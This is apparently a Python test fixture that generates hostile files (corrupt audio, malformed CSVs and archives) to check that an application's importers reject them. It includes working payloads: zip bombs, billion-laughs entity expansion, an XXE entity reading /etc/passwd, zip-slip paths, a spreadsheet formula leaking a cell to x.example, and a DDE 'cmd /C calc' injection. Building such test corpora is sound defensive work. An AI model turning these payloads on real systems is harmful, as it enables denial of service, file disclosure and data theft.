"""The hostile input corpus: bad files of every kind Transcoda imports, made on the fly.

Each entry names the importer that must refuse it (``route``), the file name it is written
under, and how to build its bytes. Nothing here is committed as a binary: zip bombs and
billion-laughs files are a few kilobytes of code that make them when a test asks.
"""

from __future__ import annotations

import io
import math
import struct
import wave
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

AUDIO_FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "audio"

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b"</Types>"
)
BILLION_LAUGHS_DTD = (
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + "]>"
)
XXE_DTD = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


@dataclass(frozen=True)
class Hostile:
    id: str
    route: str  # documents, audio, cases, codebook, qdpx, qdc, terms
    filename: str
    make: Callable[[Path], None]


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


def _zip(members: dict[str, bytes], *, level: int = 9) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _docx(document_xml: bytes, **extra: bytes) -> bytes:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        b'Target="word/document.xml"/></Relationships>'
    )
    members = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": rels,
        "word/document.xml": document_xml,
    }
    members.update(extra)
    return _zip(members)


def _word_body(text: str, doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<w:document xmlns:w="{W_NS}"><w:body>'
        f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


def _real_docx() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("Я уехал в 2022 году. " * 200)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _xlsx(rows: list[list[object]]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _xlsx_with_sheet_xml(change: Callable[[bytes], bytes]) -> bytes:
    data = _xlsx([["case", "origin"], ["R01", "Russia"]])
    source = zipfile.ZipFile(io.BytesIO(data))
    members = {info.filename: source.read(info.filename) for info in source.infolist()}
    members["xl/worksheets/sheet1.xml"] = change(members["xl/worksheets/sheet1.xml"])
    return _zip(members)


def _with_doctype(xml: bytes, doctype: str) -> bytes:
    head, sep, rest = xml.partition(b"?>")
    return head + sep + doctype.encode() + rest


def _wav(seconds: float = 2.0) -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(16_000)
        frames = b"".join(
            struct.pack("<h", int(8000 * math.sin(2 * math.pi * 440 * i / 16_000)))
            for i in range(int(16_000 * seconds))
        )
        out.writeframes(frames)
    return buffer.getvalue()


def _flac_truncated(path: Path) -> None:
    data = (AUDIO_FIXTURES / "dialogue_en.flac").read_bytes()
    path.write_bytes(data[: len(data) // 3])


def _flac_garbled(path: Path) -> None:
    data = bytearray((AUDIO_FIXTURES / "dialogue_en.flac").read_bytes())
    for at in range(200, len(data), 97):
        data[at] ^= 0xFF
    path.write_bytes(bytes(data))


def _big_line(path: Path) -> None:
    with path.open("wb") as out:
        chunk = ("слово " * 10_000).encode("utf-8")  # 110 KB, no line break anywhere
        for _ in range(480):
            out.write(chunk)


def _qdpx(project_xml: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    return _zip({"project.qde": project_xml, **(extra or {})})


QDE_HEAD = (
    '<?xml version="1.0" encoding="utf-8"?>{doctype}<Project xmlns="urn:QDA-XML:project:1.0" '
    'name="{name}" origin="test"><Sources><TextSource guid="11111111-1111-1111-1111-111111111111" '
    'name="a" plainTextPath="{path}"/></Sources></Project>'
)


def _qde(*, name: str = "p", path: str = "internal://a.txt", doctype: str = "") -> bytes:
    return QDE_HEAD.format(doctype=doctype, name=name, path=path).encode()


def _qdc(name: str, doctype: str) -> bytes:
    return (
        f'<?xml version="1.0"?>{doctype}<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
        f'<Code guid="a" name="{name}" isCodable="true"/></Codes></CodeBook>'
    ).encode()


def _random(size: int, seed: int = 7) -> bytes:
    import random

    return random.Random(seed).randbytes(size)


CORPUS: tuple[Hostile, ...] = (
    # Documents and transcripts
    Hostile("empty-txt", "documents", "empty.txt", _bytes(b"")),
    Hostile("binary-as-txt", "documents", "binary.txt", _bytes(b"\x00\x01\x02MZ" + _random(4096))),
    Hostile(
        "pdf-as-txt",
        "documents",
        "report.txt",
        _bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + _random(2000, 3)),
    ),
    Hostile(
        "elf-as-md", "documents", "notes.md", _bytes(b"\x7fELF\x02\x01\x01\x00" + _random(3000, 4))
    ),
    Hostile("single-line-50mb", "documents", "huge.txt", _big_line),
    Hostile("unknown-extension", "documents", "interview.exe", _bytes(b"MZ\x90\x00")),
    Hostile("text-as-docx", "documents", "interview.docx", _bytes("Я уехал.".encode())),
    Hostile(
        "truncated-docx", "documents", "cut.docx", lambda p: p.write_bytes(_real_docx()[:3000])
    ),
    Hostile("docx-zip-bomb", "documents", "bomb.docx", _bytes(_docx(_word_body(" " * 60_000_000)))),
    Hostile(
        "docx-billion-laughs",
        "documents",
        "laughs.docx",
        _bytes(_docx(_word_body("&j;", BILLION_LAUGHS_DTD))),
    ),
    Hostile(
        "docx-external-entity", "documents", "xxe.docx", _bytes(_docx(_word_body("&x;", XXE_DTD)))
    ),
    Hostile(
        "docx-without-body",
        "documents",
        "hollow.docx",
        _bytes(_zip({"[Content_Types].xml": CONTENT_TYPES})),
    ),
    Hostile(
        "docx-slip-path",
        "documents",
        "slip.docx",
        _bytes(_docx(b"<not-xml", **{"../../evil.txt": b"x"})),
    ),
    Hostile("srt-garbage", "documents", "subs.srt", _bytes(b"1\nnot a time --> never\n\x00\x00")),
    Hostile("vtt-binary", "documents", "subs.vtt", _bytes(b"WEBVTT\n\n" + _random(500, 5))),
    Hostile("html-binary", "documents", "page.html", _bytes(_random(800, 6))),
    Hostile(
        "utf16-odd-length",
        "documents",
        "odd.txt",
        _bytes("Привет".encode("utf-16") + b"\x00\x00\xd8"),
    ),
    Hostile("folder-named-txt", "documents", "folder.txt", lambda p: p.mkdir()),
    # Recordings
    Hostile("empty-wav", "audio", "empty.wav", _bytes(b"")),
    Hostile("wav-header-only", "audio", "header.wav", lambda p: p.write_bytes(_wav()[:44])),
    Hostile("wav-truncated", "audio", "cut.wav", lambda p: p.write_bytes(_wav(4.0)[:20_000])),
    Hostile("random-as-mp3", "audio", "noise.mp3", _bytes(_random(50_000, 8))),
    Hostile("text-as-wav", "audio", "speech.wav", _bytes(b"RIFF but really text" * 50)),
    Hostile("png-as-m4a", "audio", "photo.m4a", _bytes(b"\x89PNG\r\n\x1a\n" + _random(2000, 9))),
    Hostile("flac-truncated", "audio", "cut.flac", _flac_truncated),
    Hostile("flac-garbled", "audio", "garbled.flac", _flac_garbled),
    # Case tables
    Hostile("cases-empty-csv", "cases", "cases.csv", _bytes(b"")),
    Hostile("cases-binary-csv", "cases", "cases-binary.csv", _bytes(b"\x00" + _random(1000, 10))),
    Hostile(
        "cases-invalid-utf8",
        "cases",
        "cases-utf8.csv",
        _bytes(b"case,origin\nR01,\xff\xfeRussia\x00\n"),
    ),
    Hostile(
        "cases-ragged-csv",
        "cases",
        "cases-ragged.csv",
        _bytes(b'case,origin\n"R01,Russia\nR02,"Ge"org"ia",x,y\n'),
    ),
    Hostile("cases-corrupt-xlsx", "cases", "cases.xlsx", _bytes(b"PK\x03\x04" + _random(3000, 11))),
    Hostile(
        "cases-xlsx-formula",
        "cases",
        "formula.xlsx",
        _bytes(_xlsx([["case", "origin"], ["R01", '=HYPERLINK("http://x.example/?"&B1,"click")']])),
    ),
    Hostile(
        "cases-xlsx-dde",
        "cases",
        "dde.xlsx",
        _bytes(_xlsx([["case", "origin"], ["R01", "=cmd|' /C calc'!A0"]])),
    ),
    Hostile(
        "cases-xlsx-bomb",
        "cases",
        "bomb.xlsx",
        _bytes(_xlsx_with_sheet_xml(lambda x: x.replace(b"Russia", b"R" * 60_000_000))),
    ),
    Hostile(
        "cases-xlsx-laughs",
        "cases",
        "laughs.xlsx",
        _bytes(_xlsx_with_sheet_xml(lambda x: _with_doctype(x, BILLION_LAUGHS_DTD))),
    ),
    Hostile(
        "cases-xlsx-xxe",
        "cases",
        "xxe.xlsx",
        _bytes(_xlsx_with_sheet_xml(lambda x: _with_doctype(x, XXE_DTD))),
    ),
    # Codebooks
    Hostile("codebook-binary", "codebook", "codes.csv", _bytes(_random(2000, 12))),
    Hostile(
        "codebook-no-path", "codebook", "codes-nopath.csv", _bytes(b"name,colour\nFear,#ff0000\n")
    ),
    Hostile("qdc-laughs", "qdc", "codes.qdc", _bytes(_qdc("&j;", BILLION_LAUGHS_DTD))),
    Hostile("qdc-xxe", "qdc", "xxe.qdc", _bytes(_qdc("&x;", XXE_DTD))),
    # REFI-QDA projects
    Hostile(
        "qdpx-slip",
        "qdpx",
        "slip.qdpx",
        _bytes(
            _qdpx(
                _qde(path="internal://../../evil.txt"),
                {"../../evil.txt": b"pwned", "sources/a.txt": b"x"},
            )
        ),
    ),
    Hostile(
        "qdpx-absolute", "qdpx", "absolute.qdpx", _bytes(_qdpx(_qde(path="file:///etc/passwd")))
    ),
    Hostile(
        "qdpx-laughs",
        "qdpx",
        "laughs.qdpx",
        _bytes(_qdpx(_qde(name="&j;", doctype=BILLION_LAUGHS_DTD))),
    ),
    Hostile("qdpx-xxe", "qdpx", "xxe.qdpx", _bytes(_qdpx(_qde(name="&x;", doctype=XXE_DTD)))),
    Hostile(
        "qdpx-truncated",
        "qdpx",
        "cut.qdpx",
        _bytes(_qdpx(_qde(), {"sources/a.txt": _random(20_000)})[:500]),
    ),
    Hostile(
        "qdpx-bomb",
        "qdpx",
        "bomb.qdpx",
        _bytes(_qdpx(_qde(), {"sources/a.txt": b"a" * 80_000_000})),
    ),
    Hostile("qdpx-not-zip", "qdpx", "plain.qdpx", _bytes(b"<Project/>")),
    # Sensitive terms
    Hostile("terms-binary", "terms", "terms.csv", _bytes(b"\x00\x01" + _random(500, 13))),
)
